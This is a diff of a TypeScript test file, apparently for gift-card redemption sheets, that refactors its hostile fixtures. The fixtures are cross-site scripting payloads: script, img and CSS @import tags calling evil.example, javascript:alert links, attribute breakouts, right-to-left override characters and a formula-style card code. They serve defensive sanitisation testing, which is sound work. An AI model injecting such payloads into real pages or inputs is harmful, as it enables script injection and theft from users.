@@ -12,28 +12,18 @@ const qrOf = (sheet = ''): string | undefined =>
   readSvg(/<svg[^>]* class="qr"[\s\S]*?<\/svg>/.exec(sheet)?.[0] ?? '')
 
 const evil = '<img src=http://evil.example/i><script>fetch("http://evil.example/s")</script>'
+const tnc = `<style>@import "http://evil.example/c"</style>${evil}<p>Terms <a href="javascript:alert(1)">here</a></p>`
+const redeemInstructions = {
+  ...{ tncHtml: tnc, redeem: `${evil}\u202eturned` },
+  languageCode: 'en"><img src=http://evil.example/l>',
+}
+const cards = [
+  { redeemCardCode: `=A<"'&>${'\u202e'}1`, redeemLink: 'https://evil.example/?a="&b=<' },
+  { redeemCardCode: 'x'.repeat(3000), redeemLink: 'javascript:alert(1)', expirationDate: '' },
+]
 const hostile = {
-  reference: `PO${evil}`,
-  uid: `ord_"><b>${evil}`,
-  products: new Map(),
-  redeem: new Map([
-    [
-      `X${evil}`,
-      {
-        redeemInstructions: {
-          tncHtml: `<style>@import "http://evil.example/c"</style>${evil}<p>Terms <a href="javascript:alert(1)">here</a></p>`,
-          redeem: `${evil}\u202eturned`,
-          languageCode: 'en"><img src=http://evil.example/l>',
-        },
-        cards: [
-          { redeemCardCode: `=A<"'&>${'\u202e'}1`, redeemLink: 'https://evil.example/?a="&b=<' },
-          { redeemCardCode: 'x'.repeat(3000), redeemLink: 'javascript:alert(1)', expirationDate: '' },
-        ],
-        currency: 'EUR',
-        value: decimal('20'),
-      },
-    ],
-  ]),
+  ...{ reference: `PO${evil}`, uid: `ord_"><b>${evil}`, products: new Map() },
+  redeem: new Map([[`X${evil}`, { redeemInstructions, cards, currency: 'EUR', value: decimal('20') }]]),
 }
 
 describe('the sheets', () => {
